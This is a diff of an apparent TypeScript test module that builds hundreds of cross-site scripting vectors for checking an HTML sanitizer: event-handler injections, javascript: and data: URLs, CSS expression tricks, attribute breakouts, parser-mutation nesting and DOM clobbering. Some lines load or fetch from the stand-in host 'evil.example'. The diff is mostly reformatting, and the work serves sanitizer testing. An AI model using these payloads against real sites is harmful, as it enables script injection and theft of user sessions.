@@ -13,7 +13,15 @@ export const SENTINEL = "hostileRan";
 export const FOREIGN_HOST = "evil.example";
 
 const RUNS = [
-  ...["alert(1)", "alert`1`", `self.${SENTINEL}=1`, `top['${SENTINEL}']=1`, "confirm(1)", "prompt(1)", "print()"],
+  ...[
+    "alert(1)",
+    "alert`1`",
+    `self.${SENTINEL}=1`,
+    `top['${SENTINEL}']=1`,
+    "confirm(1)",
+    "prompt(1)",
+    "print()",
+  ],
   ...[`fetch('//${FOREIGN_HOST}/')`, `location='//${FOREIGN_HOST}/'`, "(alert)(1)", "[1].map(alert)"],
 ];
 
@@ -24,7 +32,14 @@ const RUNS = [
 export function hostileVectors(): HostileVector[] {
   let turn = 0;
   const run = () => RUNS[turn++ % RUNS.length] as string;
-  const plain = [...handlers(run), ...addresses(run), ...styles(), ...breakouts(run), ...elements(run), ...odd(run)];
+  const plain = [
+    ...handlers(run),
+    ...addresses(run),
+    ...styles(),
+    ...breakouts(run),
+    ...elements(run),
+    ...odd(run),
+  ];
   const risky = [...mutations(run), ...unfinished(run)];
   return [
     ...[...new Set(plain)].map((html) => ({ html, isRisky: false })),
@@ -37,12 +52,58 @@ type Run = () => string;
 
 /** Elements of which some load by themselves, some are ours, some are unknown. */
 const TAGS = [
-  ...["img", "svg", "body", "video", "audio", "iframe", "object", "embed", "input", "details", "marquee", "a", "p"],
-  ...["figure", "table", "td", "ul", "span", "mark", "h2", "blockquote", "hr", "br", "math", "form", "select", "x-y"],
+  ...[
+    "img",
+    "svg",
+    "body",
+    "video",
+    "audio",
+    "iframe",
+    "object",
+    "embed",
+    "input",
+    "details",
+    "marquee",
+    "a",
+    "p",
+  ],
+  ...[
+    "figure",
+    "table",
+    "td",
+    "ul",
+    "span",
+    "mark",
+    "h2",
+    "blockquote",
+    "hr",
+    "br",
+    "math",
+    "form",
+    "select",
+    "x-y",
+  ],
 ];
 const HANDLERS = [
-  ...["onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpageshow"],
-  ...["onpointerrawupdate", "oncontentvisibilityautostatechange", "onbeforetoggle", "ONERROR", "on\u0000error", "oNfOcUs"],
+  ...[
+    "onload",
+    "onerror",
+    "onclick",
+    "onfocus",
+    "onmouseover",
+    "ontoggle",
+    "onanimationstart",
+    "onbegin",
+    "onpageshow",
+  ],
+  ...[
+    "onpointerrawupdate",
+    "oncontentvisibilityautostatechange",
+    "onbeforetoggle",
+    "ONERROR",
+    "on\u0000error",
+    "oNfOcUs",
+  ],
 ];
 
 function handlers(run: Run): string[] {
@@ -65,9 +126,32 @@ function handlers(run: Run): string[] {
 }
 
 const PLACES = [
-  ...["a href", "area href", "a xlink:href", "svg><a xlink:href", "math href", "form action", "button formaction"],
-  ...["iframe src", "object data", "embed src", "img src", "img srcset", "video poster", "input type=image src"],
-  ...["link rel=stylesheet href", "base href", "body background", "a ping", "iframe srcdoc", "meta http-equiv=refresh content"],
+  ...[
+    "a href",
+    "area href",
+    "a xlink:href",
+    "svg><a xlink:href",
+    "math href",
+    "form action",
+    "button formaction",
+  ],
+  ...[
+    "iframe src",
+    "object data",
+    "embed src",
+    "img src",
+    "img srcset",
+    "video poster",
+    "input type=image src",
+  ],
+  ...[
+    "link rel=stylesheet href",
+    "base href",
+    "body background",
+    "a ping",
+    "iframe srcdoc",
+    "meta http-equiv=refresh content",
+  ],
 ];
 
 function addresses(run: Run): string[] {
@@ -82,7 +166,8 @@ function addresses(run: Run): string[] {
     (script) => `javascript://%0a${script}//`,
     (script) => `data:text/html,<script>${script}</script>`,
     (script) => `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString("base64")}`,
-    (script) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script.replaceAll("'", "")}'/>`,
+    (script) =>
+      `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script.replaceAll("'", "")}'/>`,
     (script) => `vbscript:${script}`,
     () => `//${FOREIGN_HOST}/x`,
     () => `/\\${FOREIGN_HOST}/x`,
@@ -92,20 +177,51 @@ function addresses(run: Run): string[] {
     (script) => `blob:javascript:${script}`,
     (script) => `view-source:javascript:${script}`,
   ];
-  return PLACES.flatMap((place) => schemes.map((scheme) => `<${place}="${scheme(run()).replaceAll('"', "")}">x</${place.split(" ")[0]}>`));
+  return PLACES.flatMap((place) =>
+    schemes.map((scheme) => `<${place}="${scheme(run()).replaceAll('"', "")}">x</${place.split(" ")[0]}>`),
+  );
 }
 
 function styles(): string[] {
   const values = [
-    ...["expression(alert(1))", `url(//${FOREIGN_HOST}/a)`, "url(javascript:alert(1))", `image-set('//${FOREIGN_HOST}/a' 1x)`],
-    ...["\\65xpression(alert(1))", `u\\72l(//${FOREIGN_HOST}/b)`, `-moz-binding:url(//${FOREIGN_HOST}/c)`, "red;behavior:url(x)"],
+    ...[
+      "expression(alert(1))",
+      `url(//${FOREIGN_HOST}/a)`,
+      "url(javascript:alert(1))",
+      `image-set('//${FOREIGN_HOST}/a' 1x)`,
+    ],
+    ...[
+      "\\65xpression(alert(1))",
+      `u\\72l(//${FOREIGN_HOST}/b)`,
+      `-moz-binding:url(//${FOREIGN_HOST}/c)`,
+      "red;behavior:url(x)",
+    ],
   ];
-  const properties = ["background", "background-image", "list-style", "color", "text-align", "content", "cursor", "width"];
+  const properties = [
+    "background",
+    "background-image",
+    "list-style",
+    "color",
+    "text-align",
+    "content",
+    "cursor",
+    "width",
+  ];
   const inline = properties.flatMap((property) =>
-    values.map((value) => `<p style="${property}:${value}">x</p><span style='color:#cd0015;${property}:${value}'>x</span>`),
+    values.map(
+      (value) =>
+        `<p style="${property}:${value}">x</p><span style='color:#cd0015;${property}:${value}'>x</span>`,
+    ),
   );
-  const sheets = values.map((value) => `<style>*{background:${value}}@import '//${FOREIGN_HOST}/d';</style><p>x`);
-  return [...inline, ...sheets, `<link rel=stylesheet href=//${FOREIGN_HOST}/e.css>`, `<svg><style>@import"//${FOREIGN_HOST}/f"</style></svg>`];
+  const sheets = values.map(
+    (value) => `<style>*{background:${value}}@import '//${FOREIGN_HOST}/d';</style><p>x`,
+  );
+  return [
+    ...inline,
+    ...sheets,
+    `<link rel=stylesheet href=//${FOREIGN_HOST}/e.css>`,
+    `<svg><style>@import"//${FOREIGN_HOST}/f"</style></svg>`,
+  ];
 }
 
 /** Out of the values that are allowed. */
@@ -113,7 +229,8 @@ function breakouts(run: Run): string[] {
   const picture = "/pictures/0123456789abcdef0123456789abcdef-640.jpg";
   const places = [
     (value: string) => `<img src="${picture}" alt="${value}">`,
-    (value: string) => `<img src='${picture}' alt='${value}' srcset='${picture} 640w, ${value}' sizes='${value}'>`,
+    (value: string) =>
+      `<img src='${picture}' alt='${value}' srcset='${picture} 640w, ${value}' sizes='${value}'>`,
     (value: string) => `<img src=${picture} alt=${value} width=${value}>`,
     (value: string) => `<a href="https://a.example/${value}">x</a>`,
     (value: string) => `<a href='/events?${value}' rel='${value}'>x</a>`,
@@ -122,12 +239,28 @@ function breakouts(run: Run): string[] {
     (value: string) => `<td colspan="2${value}">x</td>`,
     (value: string) => `<mark style="background-color:#fff3a3${value}">x</mark>`,
     (value: string) => `<p style="text-align:left${value}">x</p>`,
-    (value: string) => `<figure><img src="${picture}${value}"><figcaption title="${value}">${value}</figcaption></figure>`,
+    (value: string) =>
+      `<figure><img src="${picture}${value}"><figcaption title="${value}">${value}</figcaption></figure>`,
   ];
   const values = [
-    ...['" onerror=alert(1) x="', "' onerror=alert(1) x='", "` onerror=alert(1) x=`", "&quot; onerror=alert(1) x=&quot;"],
-    ...["><img src=x onerror=alert(1)>", '"><script>alert(1)</script>', "'><svg onload=alert(1)>", "&gt;&lt;script&gt;alert(1)&lt;/script&gt;"],
-    ...['\u0000" onload=alert(1) ', '\\" onerror=alert(1) //', "</p><script>alert(1)</script>", "]]><script>alert(1)</script>"],
+    ...[
+      '" onerror=alert(1) x="',
+      "' onerror=alert(1) x='",
+      "` onerror=alert(1) x=`",
+      "&quot; onerror=alert(1) x=&quot;",
+    ],
+    ...[
+      "><img src=x onerror=alert(1)>",
+      '"><script>alert(1)</script>',
+      "'><svg onload=alert(1)>",
+      "&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
+    ],
+    ...[
+      '\u0000" onload=alert(1) ',
+      '\\" onerror=alert(1) //',
+      "</p><script>alert(1)</script>",
+      "]]><script>alert(1)</script>",
+    ],
   ];
   return places.flatMap((place) => values.map((value) => place(value.replace("alert(1)", run()))));
 }
@@ -135,9 +268,15 @@ function breakouts(run: Run): string[] {
 /** Whole elements that run, load, lead away or shadow names that scripts rely on. */
 function elements(run: Run): string[] {
   return [
-    ...["script", "SCRIPT", "script/x", "script type=module", "scr\u0000ipt", "svg:script", "script src=data:,alert(1)"].map(
-      (tag) => `<${tag}>${run()}</${tag.split(/[ /]/)[0]}>`,
-    ),
+    ...[
+      "script",
+      "SCRIPT",
+      "script/x",
+      "script type=module",
+      "scr\u0000ipt",
+      "svg:script",
+      "script src=data:,alert(1)",
+    ].map((tag) => `<${tag}>${run()}</${tag.split(/[ /]/)[0]}>`),
     `<script src=//${FOREIGN_HOST}/x.js></script>`,
     `<svg><script>${run()}</script></svg>`,
     `<svg><script href="data:,${run()}"/></svg>`,
@@ -165,11 +304,18 @@ function elements(run: Run): string[] {
     `<isindex action=javascript:${run()} type=submit value=x><keygen autofocus onfocus=${run()}>`,
     `<frameset onload=${run()}><frame src=javascript:${run()}></frameset>`,
     ...["attributes", "children", "innerHTML", "nodeName", "parentNode", "__proto__", "constructor"].map(
-      (name) => `<form onclick=${run()}><input name=${name}><input id=${name} name=removeAttribute></form><a id=${name} name=${name}>x</a>`,
+      (name) =>
+        `<form onclick=${run()}><input name=${name}><input id=${name} name=removeAttribute></form><a id=${name} name=${name}>x</a>`,
     ),
-    ...["getElementById", "querySelector", "cookie", "body", "head", "__reactRouterContext", "webpackChunk"].map(
-      (name) => `<img name=${name}><form name=${name} id=${name}></form><iframe name=${name}></iframe>`,
-    ),
+    ...[
+      "getElementById",
+      "querySelector",
+      "cookie",
+      "body",
+      "head",
+      "__reactRouterContext",
+      "webpackChunk",
+    ].map((name) => `<img name=${name}><form name=${name} id=${name}></form><iframe name=${name}></iframe>`),
   ];
 }
 
@@ -185,20 +331,47 @@ function odd(run: Run): string[] {
     "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
     "%3Cscript%3Ealert(1)%3C/script%3E",
     "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>#{alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}$\u007balert(1)}<%= alert(1) %>#{alert(1)}",
     "</script><script>alert(1)</script>",
     "';alert(1)//\";alert(1)//\\';alert(1)//--></script>",
     "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
     ...[30, 60, 200].map((depth) => `${"<blockquote>".repeat(depth)}<img src=x onerror=${run()}>`),
     ...[50, 300].map((depth) => `${"<svg><g>".repeat(depth)}<script>${run()}</script>`),
-    ...[50, 300].map((depth) => `${"<b><i>".repeat(depth)}<style><!--</style><img src=x onerror=${run()}>-->`),
+    ...[50, 300].map(
+      (depth) => `${"<b><i>".repeat(depth)}<style><!--</style><img src=x onerror=${run()}>-->`,
+    ),
   ];
 }
 
 /** What a second reading understands otherwise than the first. */
 function mutations(run: Run): string[] {
-  const outer = ["svg", "math", "table", "select", "template", "noscript", "form", "p", "math><mtext", "svg><foreignObject", "math><annotation-xml encoding=text/html"];
-  const raw = ["style", "title", "textarea", "xmp", "noembed", "noframes", "iframe", "noscript", "plaintext", "script", "mglyph", "desc"];
+  const outer = [
+    "svg",
+    "math",
+    "table",
+    "select",
+    "template",
+    "noscript",
+    "form",
+    "p",
+    "math><mtext",
+    "svg><foreignObject",
+    "math><annotation-xml encoding=text/html",
+  ];
+  const raw = [
+    "style",
+    "title",
+    "textarea",
+    "xmp",
+    "noembed",
+    "noframes",
+    "iframe",
+    "noscript",
+    "plaintext",
+    "script",
+    "mglyph",
+    "desc",
+  ];
   return outer.flatMap((around) =>
     raw.flatMap((inner) => [
       `<${around}><${inner}><!--</${inner}><img src=x onerror=${run()}>--></${inner}>`,
@@ -211,8 +384,32 @@ function mutations(run: Run): string[] {
 /** What never ends, or ends twice. */
 function unfinished(run: Run): string[] {
   const openings = [
-    ...["<!--", "<!-->", "<!--->", "<![CDATA[", "<?xml ", "<!DOCTYPE x [", "<!x", "</", "<", "<a href=\"", "<img alt='", "<p style=\"x"],
-    ...["<script>", "<style>", "<textarea>", "<title>", "<xmp>", "<plaintext>", "<noscript>", "<template>", "<iframe>", "<select><option>"],
+    ...[
+      "<!--",
+      "<!-->",
+      "<!--->",
+      "<![CDATA[",
+      "<?xml ",
+      "<!DOCTYPE x [",
+      "<!x",
+      "</",
+      "<",
+      '<a href="',
+      "<img alt='",
+      '<p style="x',
+    ],
+    ...[
+      "<script>",
+      "<style>",
+      "<textarea>",
+      "<title>",
+      "<xmp>",
+      "<plaintext>",
+      "<noscript>",
+      "<template>",
+      "<iframe>",
+      "<select><option>",
+    ],
   ];
   return openings.flatMap((opening) => [
     `${opening}<img src=x onerror=${run()}>`,
